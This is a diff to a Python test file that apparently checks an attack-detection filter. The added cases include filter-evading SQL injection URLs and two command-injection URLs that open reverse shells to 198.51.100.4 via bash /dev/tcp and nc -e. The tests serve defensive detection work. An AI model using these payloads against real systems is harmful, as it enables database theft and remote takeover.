@@ -292,3 +292,21 @@ def test_query_languages_and_prose_in_parameters_pass(url):
 ])
 def test_typed_writing_about_attacks_passes(text, page):
     assert not OURS & set(typed(text, page).rules)
+
+
+@pytest.mark.parametrize("url", [
+    "https://books.example.org/title?id=3 union/**/select 1,2,3",
+    "https://books.example.org/title?id=3 /*!50000union*/ select null,null",
+    "https://books.example.org/title?id=3' and ascii(substring(user(),1,1))>64--",
+    "https://books.example.org/title?id=3' having 2=2--",
+    "https://router.example.net/cgi-bin/diag?addr=x;bash -c 'sh -i >%26 /dev/tcp/198.51.100.4/9001 0>%261'",
+    "https://router.example.net/cgi-bin/diag?addr=x;nc -e /bin/sh 198.51.100.4 9001",
+])
+def test_spelled_around_filters_ask(url):
+    assert OURS & set(visit(url).rules)
+
+
+@pytest.mark.parametrize("url", ["https://files.example.org/data.zip", "https://files.example.org/backup.zip",
+                                 "https://files.example.org/www.tar.gz", "https://files.example.org/db.bak.html"])
+def test_ordinary_downloads_at_a_root_pass(url):
+    assert not OURS & set(visit(url).rules)
